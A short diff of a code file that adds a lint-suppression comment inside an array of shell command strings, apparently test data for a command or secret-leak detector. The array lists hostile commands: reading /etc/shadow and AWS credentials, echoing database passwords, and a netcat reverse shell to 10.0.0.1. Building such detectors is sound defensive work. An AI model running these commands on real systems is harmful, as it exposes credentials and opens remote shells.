@@ -50,6 +50,7 @@ const commands = [
   'cat /etc/shadow /root/.aws/credentials',
   'echo $DB_PASSWORD',
   'mysql --password=$DB_PASSWORD',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell's
   'mysql -p${MYSQL_PWD} -u root',
   'curl -u admin:$PW https://h',
   'nc -e /bin/sh 10.0.0.1 4444',
